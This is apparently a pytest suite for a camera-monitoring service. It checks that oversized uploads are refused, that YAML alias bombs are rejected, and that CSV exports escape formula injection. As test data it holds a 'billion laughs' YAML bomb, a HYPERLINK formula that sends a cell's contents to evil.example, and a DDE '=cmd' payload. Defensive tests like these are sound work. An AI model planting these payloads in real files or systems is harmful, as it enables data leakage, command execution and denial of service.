"""Bad input: oversized bodies refused before they are read, YAML alias bombs refused everywhere, CSV
exports safe against formula injection (and an export still re-imports unchanged)."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from camsvc.alerts.contacts import ConfigError, parse_contacts_yaml
from camsvc.config import Settings
from camsvc.csvsafe import escape_cell, unescape_cell
from camsvc.models import Camera, HealthState, Outage
from camsvc.safeyaml import UnsafeYAML, safe_load
from tests.utils.auth import signed_in_client

BOMB = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
cameras: *i
contacts: *i
"""


# ----------------------------------------------------------------------------------------- body limit
@pytest.fixture
def small_client(tmp_path: Path) -> Iterator[TestClient]:
    from camsvc.app import create_app

    settings = Settings(data_dir=tmp_path / "data", limits={"max_body_bytes": 4096})  # type: ignore[arg-type]
    with signed_in_client(create_app(settings, start_runtime=False)) as c:
        yield c


def _cameras(client: TestClient) -> int:
    return int(client.get("/api/cameras").json()["total"])


def test_declared_oversized_upload_is_refused_with_413(small_client: TestClient) -> None:
    big = "id,name,kind,main_url\n" + "".join(f"c{i},X,roadside,rtsp://10.0.0.1/{i}\n" for i in range(400))
    r = small_client.post("/api/cameras/import", files={"file": ("f.csv", big.encode(), "text/csv")})
    assert r.status_code == 413
    assert "4096" in r.json()["detail"] and "limits.max_body_bytes" in r.json()["detail"]
    assert _cameras(small_client) == 0
    small = "id,name,kind,main_url\nc1,X,roadside,rtsp://10.0.0.1/1\n"
    ok = small_client.post("/api/cameras/import", files={"file": ("f.csv", small.encode(), "text/csv")})
    assert ok.status_code == 200


def test_the_header_alone_decides(small_client: TestClient) -> None:
    r = small_client.post(
        "/api/cameras",
        content=b"{}",
        headers={"Content-Length": str(10**9), "Content-Type": "application/json"},
    )
    assert r.status_code == 413


def test_chunked_body_is_cut_at_the_limit(small_client: TestClient) -> None:
    sent = []

    def body() -> Iterator[bytes]:
        yield (
            b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="f.csv"\r\n'
            b"Content-Type: text/csv\r\n\r\nid,name,kind,main_url\n"
        )
        for i in range(2000):
            sent.append(i)
            yield f"c{i},X,roadside,rtsp://10.0.0.1/{i}\n".encode()
        yield b"\r\n--XyZ--\r\n"

    r = small_client.post(
        "/api/cameras/import",
        content=body(),
        headers={"Content-Type": "multipart/form-data; boundary=XyZ"},
    )
    assert r.status_code == 413 and "limits.max_body_bytes" in r.text
    assert _cameras(small_client) == 0


def test_real_server_cuts_a_chunked_upload(tmp_path: Path) -> None:
    """Through uvicorn on 127.0.0.1: a chunked body gets 413 once past the limit, long before its end."""
    import uvicorn

    from camsvc.app import create_app

    settings = Settings(data_dir=tmp_path / "data", limits={"max_body_bytes": 4096})  # type: ignore[arg-type]
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(settings, start_runtime=False), log_level="warning"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        end = time.monotonic() + 20
        while not server.started and time.monotonic() < end:
            time.sleep(0.05)
        conn = socket.create_connection(("127.0.0.1", port), timeout=5)
        conn.sendall(
            b"POST /api/cameras/import HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Content-Type: multipart/form-data; boundary=XyZ\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        first = b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="f.csv"\r\n\r\n'
        conn.sendall(f"{len(first):x}\r\n".encode() + first + b"\r\n")
        chunk = b"c1,X,roadside,rtsp://10.0.0.1/1\n" * 32
        reply = b""
        with pytest.raises(OSError):  # the server answers and closes while we are still sending
            for _ in range(10_000):
                conn.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                conn.settimeout(0.01)
                with contextlib.suppress(TimeoutError):
                    reply += conn.recv(4096)
                conn.settimeout(5)
                if reply:
                    raise OSError("answered")
        if not reply:
            conn.settimeout(5)
            reply = conn.recv(4096)
        assert reply.startswith(b"HTTP/1.1 413"), reply[:200]
        conn.close()
    finally:
        server.should_exit = True
        thread.join(10)


# ----------------------------------------------------------------------------------------------- YAML
def test_safe_load_refuses_aliases_anchors_and_size() -> None:
    with pytest.raises(UnsafeYAML, match="anchors"):
        safe_load(BOMB)
    with pytest.raises(UnsafeYAML, match="aliases"):
        safe_load("a: *x\n")
    with pytest.raises(UnsafeYAML, match="larger"):
        safe_load("a: 1\n" * 100, max_bytes=100)
    assert safe_load("cameras:\n  - id: a\n    enabled: true\n") == {
        "cameras": [{"id": "a", "enabled": True}]
    }


def test_camera_import_bomb_is_refused_and_changes_nothing(client: Any) -> None:
    client.post(
        "/api/cameras", json={"id": "k", "name": "keep", "kind": "roadside", "main_url": "rtsp://10.0.0.1/"}
    )
    t0 = time.monotonic()
    r = client.post("/api/cameras/import", files={"file": ("f.yaml", BOMB.encode(), "application/yaml")})
    assert r.status_code == 422 and "anchors" in r.text and time.monotonic() - t0 < 5
    assert [c["id"] for c in client.get("/api/cameras").json()["items"]] == ["k"]


def test_contacts_import_bomb_is_refused() -> None:
    with pytest.raises(ConfigError, match="anchors"):
        parse_contacts_yaml(BOMB)


def test_config_file_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cfg = tmp_path / "camsvc.yaml"
    cfg.write_text(BOMB)
    monkeypatch.setenv("CAMSVC_CONFIG", str(cfg))
    with pytest.raises(UnsafeYAML, match="anchors"):
        Settings()


# ------------------------------------------------------------------------------------------------ CSV
@pytest.mark.parametrize("value", ["=1+2", "+84912345678", "-2", "@SUM(A1)", "\tx", "\rx", "'=x", "''=x"])
def test_escape_round_trips(value: str) -> None:
    escaped = escape_cell(value)
    assert escaped.startswith("'") and unescape_cell(escaped) == value


def test_plain_values_are_untouched() -> None:
    assert [escape_cell(v) for v in ("Ngã tư", "", "a=b", "'quoted'", 1.5, None)] == [
        "Ngã tư",
        "",
        "a=b",
        "'quoted'",
        1.5,
        None,
    ]


NAME = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'


def test_camera_export_is_text_and_reimports_to_the_same_name(client: Any) -> None:
    r = client.post(
        "/api/cameras",
        json={
            "id": "cam-x",
            "name": NAME,
            "kind": "household",
            "owner_phone": "+84912345678",
            "notes": "@admin -check",
            "main_url": "rtsp://10.0.0.1/live",
        },
    )
    assert r.status_code == 201, r.text
    text = client.get("/api/cameras/export", params={"format": "csv"}).text
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + NAME and row["owner_phone"] == "'+84912345678"
    assert row["notes"] == "'@admin -check"
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    r = client.post("/api/cameras/import", files={"file": ("c.csv", text.encode(), "text/csv")})
    assert r.json() == {"created": 0, "updated": 0, "unchanged": 1}
    with Session(client.app.state.engine) as s:
        cam = s.get(Camera, "cam-x")
        assert cam is not None and (cam.name, cam.owner_phone, cam.notes) == (
            NAME,
            "+84912345678",
            "@admin -check",
        )


def test_outage_csv_is_safe(client: Any) -> None:
    client.post(
        "/api/cameras",
        json={
            "id": "cam-o",
            "name": "=cmd|' /C calc'!A0",
            "kind": "roadside",
            "main_url": "rtsp://10.0.0.1/live",
        },
    )
    now = dt.datetime.now(dt.UTC)
    with Session(client.app.state.engine) as s:
        s.add(
            Outage(
                camera_id="cam-o",
                state=HealthState.DOWN,
                started_at=now - dt.timedelta(minutes=5),
                confirmed_at=now,
                cause="refused",
                last_error="-ERR @x",
                acknowledged_by="+Lan",
            )
        )
        s.commit()
        assert s.exec(select(Outage)).first() is not None
    text = client.get("/api/outages", params={"format": "csv", "period": "day"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1, text
    assert rows[0]["camera_name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["last_error"] == "'-ERR @x" and rows[0]["acknowledged_by"] == "'+Lan"
